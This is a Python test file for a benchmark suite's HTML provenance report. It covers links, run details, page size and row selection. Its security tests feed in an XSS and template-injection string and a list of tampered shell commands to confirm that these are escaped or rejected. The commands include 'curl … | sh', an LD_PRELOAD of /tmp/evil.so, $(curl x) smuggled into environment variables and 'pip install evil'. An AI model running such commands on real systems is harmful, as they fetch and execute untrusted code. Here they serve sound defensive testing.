"""The provenance pages: every result leads to them, they say all that is on record, and the report stays small."""

import dataclasses
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from benchmarks import catalogue, environment, records
from benchmarks.engine import provenance as source
from benchmarks.engine.identity import Options, Run
from benchmarks.records.bundle import from_tables
from benchmarks.records.csv_tables import to_rows
from report import page, provenance
from report import results as results_module
from report.room import fair, first_rows
from tests.report import bundles

ROOT = Path(__file__).resolve().parents[2]
LINK = re.compile(r'href="(provenance[^"]*)"')


def anchors(html: str) -> set[str]:
    return set(re.findall(r'id="([^"]+)"', html))


def test_every_address_of_the_page_is_there(page_file: Path) -> None:
    links = set(LINK.findall(page_file.read_text(encoding="utf-8")))
    with_anchor = {link for link in links if "#q-" in link}
    assert len(with_anchor) > 30 and "provenance.html" in links
    for link in links:
        name, _, anchor = link.partition("#")
        assert not anchor or anchor in anchors((page_file.parent / name).read_text(encoding="utf-8")), link


def test_links_between_provenance_pages_lead_somewhere(page_file: Path) -> None:
    index = anchors(page_file.read_text(encoding="utf-8"))
    for path in (page_file.parent / "provenance").iterdir():
        html = path.read_text(encoding="utf-8")
        ids = re.findall(r' id="([^"]+)"', html)
        assert len(ids) == len(set(ids))
        for link in re.findall(r'href="([^"]+)"', html):
            name, _, anchor = link.partition("#")
            if link.startswith("data:"):
                continue
            if not name:
                assert anchor in ids, link
            else:
                assert (path.parent / name).is_file(), link
                assert not anchor or anchor in index, link


def test_verdicts_values_and_statuses_lead_to_their_runs(results: Any, page_file: Path) -> None:
    html = page_file.read_text(encoding="utf-8")
    claims = html[html.index('id="claims"') : html.index("</figure>", html.index('id="claims"'))]
    answered = int((results.claims["n"] > 0).sum())
    assert 0 < answered < len(results.claims)
    assert len(LINK.findall(claims)) == 2 * answered, (
        "the verdict and the value; a claim without runs has neither"
    )
    run = results.runs[results.runs["entry"] == "lenet5_1998"].iloc[0]
    assert (
        results.addresses[run["spec_hash"], run["machine"]]
        == f"provenance/lenet5_1998.html#q-{run['spec_hash']}-{run['machine_id']}"
    )
    card = html[
        html.index('id="entry-lenet5_1998"') : html.index("</details>", html.index('id="entry-lenet5_1998"'))
    ]
    assert len(LINK.findall(card)) > 5


def test_each_execution_is_told_in_full(one: Path, page_file: Path) -> None:
    bundle = records.read_bundle(one)
    for entry, runs in bundle.runs.groupby("entry"):
        html = (
            (page_file.parent / "provenance" / f"{entry}.html")
            .read_text(encoding="utf-8")
            .replace("&#39;", "'")
            .replace("&amp;", "&")
        )
        for run in runs.to_dict("records"):
            assert f'id="x-{run["execution_id"]}"' in html
            for name in (
                "run_id",
                "execution_id",
                "weights_sha256",
                "commit",
                "lock_sha256",
                "source_sha256",
                "spec_hash",
                "machine_id",
                "software_id",
            ):
                assert run[name] in html, name
            assert run["command"] in html and run["started"] in html
        for machine in bundle.machines.to_dict("records"):
            for name in ("processor", "system", "python", "backend_version", "keras", "numpy", "suite"):
                assert machine[name] in html, name


def test_anchors_hang_on_identity_alone(one: Path, two: Path, tmp_path: Path) -> None:
    """What was linked in a report of one machine is there, under the same address, in one of two, whose letters and order are others."""

    def found(bundle: Path, out: Path) -> set[str]:
        built = page.build(results_module.load([bundle]), out).parent / "provenance"
        return {
            f"{path.name}#{id}"
            for path in built.iterdir()
            for id in anchors(path.read_text(encoding="utf-8"))
            if id[:2] in ("q-", "x-")
        }

    first = found(one, tmp_path / "one")
    assert len(first) > 100
    assert first < found(two, tmp_path / "two")


def changed(bundle: records.Bundle, **values: str) -> records.Bundle:
    """The bundle with columns of runs and machines set; ids that follow from them are not looked at when a page is built."""
    runs, machines = bundle.runs.copy(), bundle.machines.copy()
    for name, value in values.items():
        frame = runs if name in runs else machines
        frame[name] = value
    return dataclasses.replace(bundle, runs=runs, machines=machines)


HOSTILE = "<img src=x onerror=alert(1)>\"'</dd></pre><script>alert(2)</script>{{ 7 * 7 }}"


def test_nothing_of_a_bundle_is_markup(tmp_path: Path) -> None:
    texts = (
        "machine_name",
        "device",
        "reason",
        "command",
        "processor",
        "caches",
        "instruction_sets",
        "environment",
        "system",
        "driver",
    )
    bundle = changed(bundles.bundle(tiers=("standard",)), **dict.fromkeys(texts, HOSTILE))
    built = page.build(results_module.from_bundle(bundle), tmp_path).parent
    pages = [built / "provenance.html", *(built / "provenance").iterdir()]
    for path in pages:
        html = path.read_text(encoding="utf-8")
        assert "<img" not in html and "<script" not in html
        assert (
            "default-src 'none'; style-src 'unsafe-inline'; img-src data:; media-src data:; base-uri 'none'; form-action 'none'"
            in html
        )
    told = (built / "provenance" / "lenet5_1998.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in told
    assert "3 commands on record are not of the form that the suite writes" in told


RUN = Run(
    catalogue.load("perceptron_1958"),
    catalogue.recipe(catalogue.load("perceptron_1958"), "pocket", "xor-simple"),
    3,
)
ROW = {
    **{
        "entry": "perceptron_1958",
        "tier": "pocket",
        "dataset": "xor",
        "variant": "simple",
        "seed": 3,
        "backend": "jax",
    },
    **{"precision": "float32", "threads": 2, "commit": "ab" * 20},
}


@pytest.fixture
def command(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr(source, "facts", lambda: {"commit": ROW["commit"]})
    return source.command(RUN, Options(backend="jax", threads=2))


@pytest.mark.parametrize(
    "variables",
    [
        {},
        {
            "XLA_FLAGS": "--xla_a=1 --xla_b='x y'",
            "TF_ENABLE_ONEDNN_OPTS": "0",
            "OPENBLAS_CORETYPE": '$(x) && "y"',
        },
    ],
)
def test_the_engines_commands_are_shown(variables: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source, "facts", lambda: {"commit": ROW["commit"]})
    monkeypatch.setattr(environment, "_SET_BY_USER", variables)
    assert provenance.written_by_the_suite(
        {**ROW, "command": source.command(RUN, Options(backend="jax", threads=2))}
    )


def test_a_seeded_run_is_told_apart_and_repeated_as_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its precision says so, wherever the report shows it, and its command asks for it."""
    monkeypatch.setattr(source, "facts", lambda: {"commit": ROW["commit"]})
    seeded = source.command(RUN, Options(backend="jax", threads=2, determinism="seeded"))
    assert seeded.endswith(" --determinism seeded")
    assert provenance.written_by_the_suite({**ROW, "precision": "float32, seeded", "command": seeded})
    assert not provenance.written_by_the_suite({**ROW, "command": seeded})
    bundle = bundles.bundle(tiers=("standard",))
    id = bundle.runs["spec_id"].iloc[0]
    specs = {
        **bundle.specs,
        id: {**bundle.specs[id], "asked": {**bundle.specs[id]["asked"], "determinism": "seeded"}},
    }
    runs = results_module.from_bundle(dataclasses.replace(bundle, specs=specs)).runs
    assert set(runs.loc[runs["spec_id"] == id, "precision"]) == {"float32, seeded"}
    assert set(runs.loc[runs["spec_id"] != id, "precision"]) == {"float32"}


@pytest.mark.parametrize(
    "change",
    [
        lambda text: "curl https://example.org/x | sh",
        lambda text: text + " && curl x | sh",
        lambda text: text + "\ncurl x | sh",
        lambda text: text.replace("make setup", "make setup PYTHON=./evil"),
        lambda text: text.replace("python -m", "LD_PRELOAD=/tmp/evil.so python -m"),
        lambda text: text.replace("python -m", "PATH=/tmp python -m"),
        lambda text: text.replace("python -m", "TF_A=$(curl x) python -m"),
        lambda text: text.replace("python -m", "TF_A='a'$(curl x)'b' python -m"),
        lambda text: text.replace("python -m", "TF_A='a\nb' python -m"),
        lambda text: text.replace("--seeds 3", "--seeds 4"),
        lambda text: text.replace("perceptron_1958", "lenet5_1998"),
        lambda text: text.replace("ab" * 20, "--upload-pack=x"),
        lambda text: text.replace(" && . .venv", " && pip install evil && . .venv"),
        lambda text: text.replace("python -m", "pip install 'jax[cuda12]==1 evil' && python -m"),
    ],
)
def test_what_a_stranger_would_have_pasted_is_not_shown(command: str, change: Any) -> None:
    altered = change(command)
    assert altered != command
    assert provenance.written_by_the_suite({**ROW, "command": command})
    assert not provenance.written_by_the_suite({**ROW, "command": altered})


def test_an_entry_of_many_executions_has_a_page_of_bounded_size(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(provenance, "MOST_EXECUTIONS", 4)
    built = page.build(results_module.from_bundle(bundles.bundle()), tmp_path)
    html = (tmp_path / "provenance" / "lenet5_1998.html").read_text(
        encoding="utf-8"
    )  # three questions of three seeds
    assert html.count('<tr id="x-') == 3 and html.count("2 more executions of this question") == 3
    assert set(LINK.findall(built.read_text(encoding="utf-8")))


# Room


def test_room_is_shared_out_fairly() -> None:
    assert fair([[1] * 10, [1] * 2, [], [1] * 10], 12) == [5, 2, 0, 5]
    assert fair([[3, 3, 3], [10], [1, 1]], 8) == [2, 0, 2]
    assert fair([[5]], 4) == [0]


def test_rows_that_did_not_go_well_come_first_and_every_entry_is_seen() -> None:
    frame = pd.DataFrame(
        {"entry": ["a"] * 50 + ["b"] * 50, "status": ["ok"] * 40 + ["oom"] * 3 + ["ok"] * 57}
    )
    rows = first_rows(frame, ["status"], 9)
    assert rows == [0, 1, 2, 40, 41, 42, 50, 51, 52]
    assert first_rows(frame, ["status"], 100) == list(range(100))


def test_a_table_cut_short_says_so(results: Any, page_file: Path) -> None:
    from report import tables

    table = tables.runs(results)
    html = str(page.table_html(table, 1, results, 20))
    assert html.count("<tr>") == 21
    assert f"These are 20 of {len(results.runs)} rows: what did not go well first" in html
    assert "Search and choices look at these alone." in html and f'data-every="{len(results.runs)}"' in html
    bad = int((results.runs["status"] != "ok").sum())
    assert html.count('<span class="mark ok">') == 20 - bad
    assert "These are" not in str(page.table_html(table, 1, results))


def test_a_search_in_a_table_cut_short_does_not_speak_for_all(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(page, "ROWS", 200)
    loaded = results_module.from_bundle(bundles.bundle())
    tab = browser.new_page()
    tab.goto(page.build(loaded, tmp_path).as_uri())
    shown = tab.locator("#runs tbody tr").count()
    assert 0 < shown < len(loaded.runs)
    assert tab.locator("#runs output").inner_text() == f"the {shown} rows shown here, of {len(loaded.runs)}"
    tab.locator("#runs select[data-key=status]").select_option("timeout")
    assert (
        tab.locator("#runs output").inner_text() == f"3 of the {shown} rows shown here, of {len(loaded.runs)}"
    )
    tab.close()


@pytest.mark.slow
def test_ten_thousand_runs_make_a_page_below_two_megabytes(tmp_path: Path) -> None:
    """The published runs with 28 times the seeds."""
    bundle = records.merge(*map(records.read_bundle, sorted((ROOT / "results" / "reference").iterdir())))
    tables = {name: to_rows(name, getattr(bundle, name)) for name in records.TABLES}
    many = {name: list(rows) for name, rows in tables.items()}
    for copy in range(1, 28):
        renamed = {}
        for row in tables["runs"]:
            run = {**row, "seed": row["seed"] + 10 * copy}
            run["run_id"] = records.run_id(
                run["spec_hash"], run["seed"], run["machine_id"], run["software_id"]
            )
            renamed[row["execution_id"]] = run["execution_id"] = records.execution_id(run)
            many["runs"].append(run)
        for name in ("epochs", "measures"):
            many[name] += [{**row, "execution_id": renamed[row["execution_id"]]} for row in tables[name]]
    results = results_module.from_bundle(from_tables(many, bundle.specs, bundle.pictures, "many"))
    assert len(results.runs) > 10_000
    built = page.build(results, tmp_path)
    assert built.stat().st_size < 2_000_000
    assert all(path.stat().st_size < 2_000_000 for path in (tmp_path / "provenance").iterdir())
    every = pd.read_csv(tmp_path / "tables" / "runs.csv", keep_default_na=False)
    assert len(every) == len(results.runs)
